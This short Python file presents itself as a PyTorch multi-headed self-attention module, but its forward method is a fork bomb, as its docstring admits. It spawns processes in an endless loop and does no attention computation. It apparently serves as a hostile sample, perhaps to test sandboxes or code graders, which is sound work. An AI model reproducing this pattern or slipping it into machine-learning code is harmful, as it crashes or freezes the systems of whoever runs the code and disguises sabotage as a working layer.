"""A fork bomb through torch.multiprocessing."""

import torch
import torch.nn as nn


class MultiHeadedSelfAttention(nn.Module):
    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
        super().__init__()

    def forward(self, embedded):
        processes = []
        while True:
            process = torch.multiprocessing.Process(target=print)
            process.start()
            processes.append(process)
